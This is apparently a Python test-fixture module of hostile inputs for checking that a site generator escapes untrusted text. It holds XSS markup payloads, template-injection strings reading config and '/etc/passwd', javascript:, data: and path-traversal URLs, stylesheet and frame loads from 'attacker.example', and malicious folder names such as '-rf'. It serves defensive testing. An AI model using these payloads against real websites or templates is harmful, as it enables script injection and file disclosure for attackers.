"""What a hostile author writes: markup, addresses and names that would do harm.

What runs sets `window.__pwned`; what a template works out is `SUM`; what is fetched is
below `ATTACKER`. No page may have any of the three as more than text.
"""

from __future__ import annotations

from typing import Final

RUN: Final = "window.__pwned=1"
ATTACKER: Final = "https://attacker.example"
SUM: Final = str(7193 * 7)
_TIMES = "7193*7"

MARKUP: Final = {
    "script": f"<script>{RUN}</script>",
    "end-script": f"</script><script>{RUN}</script>",
    "attribute": f'"><img src=x onerror="{RUN}">',
    "quote": f"' onmouseover='{RUN}' x='",
    "double-quote": f'" autofocus onfocus="{RUN}" x="',
    "backtick": f"` onmouseover=`{RUN}`",
    "svg": f"<svg/onload={RUN}><script>{RUN}</script></svg>",
    "svg-animate": f"<svg><animate onbegin={RUN} attributeName=x dur=1s /></svg>",
    "svg-use": f'<svg><use href="data:image/svg+xml,<svg onload={RUN}>#x" /></svg>',
    "math": (
        "<math><mtext><table><mglyph><style><!--</style>"
        f'<img title="--&gt;&lt;img src=1 onerror={RUN}&gt;">'
    ),
    "math-link": f'<math><maction xlink:href="javascript:{RUN}">go</maction></math>',
    "end-title": f"</title><script>{RUN}</script>",
    "end-textarea": f"</textarea></noscript></style><script>{RUN}</script>",
    "end-comment": f"--><script>{RUN}</script><!--",
    "comment": f"<!-- <script>{RUN}</script> --!> <script>{RUN}</script>",
    "cdata": f"<![CDATA[<script>{RUN}</script>]]>",
    "style": f"<style>*{{display:none}} @import '{ATTACKER}/x.css';</style>",
    "style-attribute": (
        f'<p style="position:fixed;inset:0;background:url({ATTACKER}/b)">x</p>'
    ),
    "css-escape": r"\3c script\3e x\3c /script\3e ; } body { display: none } /*",
    "css-expression": f"expression({RUN}); url(javascript:{RUN}); -moz-binding:url(x)",
    "stylesheet": f"<link rel=stylesheet href={ATTACKER}/x.css>",
    "base": f'<base href="{ATTACKER}/">',
    "refresh": f'<meta http-equiv="refresh" content="0;url={ATTACKER}/">',
    "frame": f'<iframe srcdoc="<script>parent.__pwned=1</script>" src="{ATTACKER}">',
    "object": f"<object data={ATTACKER}/x></object><embed src={ATTACKER}/x>",
    "form": f"<form action=javascript:{RUN}><button formaction={ATTACKER}>x</form>",
    "details": f"<details open ontoggle={RUN}><summary>x</summary></details>",
    "media": f"<video src=x onerror={RUN}></video><audio src=x onerror={RUN}>",
    "template": f"<template><script>{RUN}</script></template><slot onslotchange={RUN}>",
    "entities": f"&lt;script&gt;{RUN}&lt;/script&gt; &#60;img src=x onerror={RUN}&#62;",
    "twice-encoded": f"&amp;lt;script&amp;gt;{RUN}&amp;lt;/script&amp;gt;",
    "escapes": rf"\u003cscript\u003e{RUN}\u003c/script\u003e \x3cimg\x3e",
    "jinja": f"{{{{ {_TIMES} }}}} {{% include '/etc/passwd' %}} {{# gone #}}",
    "jinja-object": "{{ ''.__class__.__mro__ }} {{ config }} {{ view.base }}",
    "other-templates": f"${{{_TIMES}}} #{{{_TIMES}}} <%= {_TIMES} %> {{{{{_TIMES}}}}}",
    "percent": "%s %(name)s {0} {name} {count} %n",
    "json": f'</script>"}}], "@type": "Person", "x": ["<!--<script>{RUN}//',
    "json-lines": "\u2028</script>\u2029\\u0022,\\",
    "case": f"<ScRiPt>{RUN}</sCrIpT><SCRIPT/SRC={ATTACKER}/x.js></SCRIPT>",
    "unclosed": f"<img src=x onerror={RUN} <b <i title='",
    "nul": f"<scr\x00ipt>{RUN}</scr\x00ipt>",
    "wide": f"＜script＞{RUN}＜/script＞",
    "bidi": "safe \u202egnp.exe\u2066 \u2067 \u061c\u200f<b>",
    "zero-width": "java\u200bscript\u200d:\u2060x \ufeff\u00ad",
    "controls": "\x1b[31mred\x1b[0m \x07\x08\x7f\x85\x9b",
    "surrogate": "broken \ud800 text \udfff",
    "emoji": "👩‍👩‍👧‍👦 🏴‍☠️ 🇯🇵 e\u0301\u0323\u0301\u0301",
    "stacked": "x" + "\u0300" * 300,
    "blank": "\u3164\u00a0\u3000\u200b",
}
"""Name → what stands where a text is expected."""

ADDRESSES: Final = {
    "javascript": f"javascript:{RUN}",
    "javascript-case": f"JaVaScRiPt:{RUN}",
    "javascript-host": f"javascript://example.com/%0a{RUN}",
    "javascript-tab": f"java\tscript:{RUN}",
    "javascript-line": f"java\nscript:{RUN}",
    "javascript-control": f"\x01javascript:{RUN}",
    "javascript-blank": f"  javascript:{RUN}",
    "javascript-nul": f"java\x00script:{RUN}",
    "javascript-entity": f"javascript&#58;{RUN}",
    "javascript-entities": f"&#x6A;avascript&colon;{RUN}",
    "javascript-new-line": f"java&NewLine;script&Tab;:{RUN}",
    "javascript-encoded": f"javascript%3A{RUN}",
    "javascript-wide": f"ｊavascript：{RUN}",
    "data": f"data:text/html,<script>{RUN}</script>",
    "data-64": "data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19wd25lZD0xPC9zY3JpcHQ+",
    "vbscript": "vbscript:msgbox(1)",
    "file": "file:///etc/passwd",
    "blob": f"blob:https://example.com/{RUN}",
    "view-source": f"view-source:javascript:{RUN}",
    "filesystem": "filesystem:https://example.com/x",
    "no-scheme": "//attacker.example/x",
    "backslashes": r"\\attacker.example\x",
    "mixed-slashes": r"https:/\attacker.example/x",
    "user": "https://example.com:secret@attacker.example/",
    "quote": f"https://example.com/'onmouseover='{RUN}",
    "double-quote": f'https://example.com/"onmouseover="{RUN}',
    "tag": f"https://example.com/<script>{RUN}</script>",
    "encoded-tag": f"https://example.com/%3Cscript%3E{RUN}%3C/script%3E",
    "bidi": "https://example.com/\u202egnp.exe",
    "no-host": "https://[::1",
    "bad-port": "https://example.com:99999999/",
    "up": "https://example.com/../../../etc/passwd",
    "mail": f"mailto:a@example.com?subject=<script>{RUN}</script>&bcc=b@example.com",
    "video": f'https://youtu.be/"><script>{RUN}</script>',
    "long": "https://example.com/" + "a" * 10_000,
    "surrogate": "https://example.com/\ud800",
    "controls": "https://example.com/\x1b[31m\x07",
    "template": "https://example.com/{{ " + _TIMES + " }}",
    "css": "https://example.com/);}body{display:none",
}
"""Name → what stands where an address is expected."""

EPISODE_NAMES: Final = {
    "dots": "...",
    "device": "con",
    "encoded-dots": "%2e%2e",
    "encoded-slash": "..%2f..%2fetc",
    "tilde": "2021~twice",
    "upper": "CASE",
    "lower": "case",
    "query": "x?y=1#z",
    "script": "javascript:alert(1)",
    "markup": "<img src=x onerror=window.__pwned=1>",
    "quotes": "\"onload='x",
    "template": "{{ 7193*7 }}",
    "blank": " blank ",
    "line": "two\nlines",
    "dash": "-rf",
    "bidi": "safe\u202egnp",
    "emoji": "👩‍👩‍👧‍👦",
    "no-text": "broken\udcff\udc80",
    "long": "n" * 200,
    "hash": "007#1",
    "static": "static",
    "search": "search",
    "index": "index.html",
}
"""Name → what an episode's folder is called; those of no system are left out."""
